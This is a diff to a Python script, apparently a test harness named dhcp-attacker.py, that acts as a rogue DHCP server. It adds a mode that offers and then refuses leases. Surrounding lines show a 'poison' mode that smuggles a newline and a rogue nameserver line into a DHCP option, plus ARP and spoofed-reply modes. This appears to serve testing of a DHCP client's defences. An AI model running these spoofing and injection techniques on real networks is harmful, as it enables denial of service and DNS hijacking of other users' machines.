@@ -1,6 +1,6 @@
 """An attacker on the cable: answers each DHCPDISCOVER with lies, or shouts lies at a client that is bound.
 
-usage: dhcp-attacker.py LINK answer | serve | poison | shout CLIENT_MAC CLIENT_ADDRESS | arp ADDRESS
+usage: dhcp-attacker.py LINK answer | serve | refuse | poison | shout CLIENT_MAC CLIENT_ADDRESS | arp ADDRESS
 Prints `ready`, then `lied N` for each round.
 """
 
@@ -93,6 +93,16 @@ def serve(extra=b""):
         wire.send(frame(xid, mac, socket.inet_aton("10.1.0.77"), usual(reply) + extra + b"\xff"))
 
 
+def refuse():
+    """Offers an address and then refuses it, each time."""
+    refused = 0
+    for kind, xid, mac in questions():
+        reply = OFFER if kind == DISCOVER else NAK
+        wire.send(frame(xid, mac, socket.inet_aton("10.1.0.77"), usual(reply) + b"\xff"))
+        refused += reply == NAK
+        print("refused", refused)
+
+
 def poison():
     """Grants a lease that is right but for options meant to do harm further on."""
     line = b"x\nnameserver 6.6.6.6\n"
@@ -138,4 +148,4 @@ def arp(address):
 
 
 print("ready", flush=True)
-{"answer": answer, "serve": serve, "poison": poison, "shout": shout, "arp": arp}[mode](*sys.argv[3:])
+{"answer": answer, "serve": serve, "refuse": refuse, "poison": poison, "shout": shout, "arp": arp}[mode](*sys.argv[3:])
